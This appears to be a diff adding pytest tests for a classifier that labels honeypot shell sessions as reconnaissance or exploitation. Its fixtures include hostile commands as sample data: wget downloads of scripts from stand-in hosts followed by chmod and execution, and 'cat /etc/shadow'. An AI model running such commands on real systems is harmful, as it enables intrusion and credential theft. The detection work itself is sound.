@@ -0,0 +1,48 @@
+# tests/test_train_stream.py
+import json
+
+import joblib
+
+from src import session_manager, train_stream
+from src.events import input_line, shell_cmd
+
+
+def test_streaming_training_writes_versioned_artifacts(tmp_path):
+    trainer = train_stream.StreamingTrainer(n_features_log2=12, eval_max=300)
+    trainer.fit(train_stream.iter_chunks(train_stream.synthetic_metas(3000), chunk_size=500))
+    report = trainer.evaluate()
+    assert report["sessions"] == 3000 and report["chunks"] == 6
+    assert report["evaluated"] == 300 < report["held_out"]
+    assert report["accuracy"] > 0.9
+    assert report["confusion"]["labels"] == list(train_stream.LABELS)
+
+    out = trainer.save(tmp_path, report)
+    assert (tmp_path / "text" / "LATEST").read_text().strip() == out.name
+    saved = json.loads((out / "report.json").read_text())
+    assert saved["version"] == out.name and saved["trained"] == report["trained"]
+    artifact = joblib.load(out / "model.joblib")
+    X = trainer.matrix(["wget http://198.51.100.7/x.sh\nchmod +x x.sh"], [[1, 0, 2]])
+    assert artifact["model"].predict(X)[0] == "exploit"
+
+
+def test_reads_closed_sessions_from_the_file_store(tmp_path, monkeypatch):
+    monkeypatch.setattr(session_manager, "BASE", tmp_path)
+    for lines in (["uname -a", "id"], ["wget http://x/y", "chmod +x y", "./y"]):
+        sid, sdir = session_manager.new_session("192.0.2.9", 2222)
+        for line in lines:
+            session_manager.append_event(sdir, input_line(line))
+        session_manager.append_event(sdir, shell_cmd("cat /etc/shadow"))
+        session_manager.close_session(sdir)
+    session_manager.new_session("192.0.2.10", 2222)  # still open: not used
+
+    chunks = list(train_stream.iter_chunks(train_stream.store_metas(tmp_path), chunk_size=1))
+    samples = [s for chunk in chunks for s in chunk]
+    assert len(chunks) == 2
+    assert [s[3] for s in samples] == ["recon", "exploit"]
+    assert samples[0][1] == "uname -a\nid\ncat /etc/shadow"
+    assert samples[1][2] == [1, 0, 4]
+
+    # without the manifest the directory scan skips the open session too
+    session_manager.index_path(tmp_path).unlink()
+    samples = [s for chunk in train_stream.iter_chunks(train_stream.store_metas(tmp_path)) for s in chunk]
+    assert sorted(s[3] for s in samples) == ["exploit", "recon"]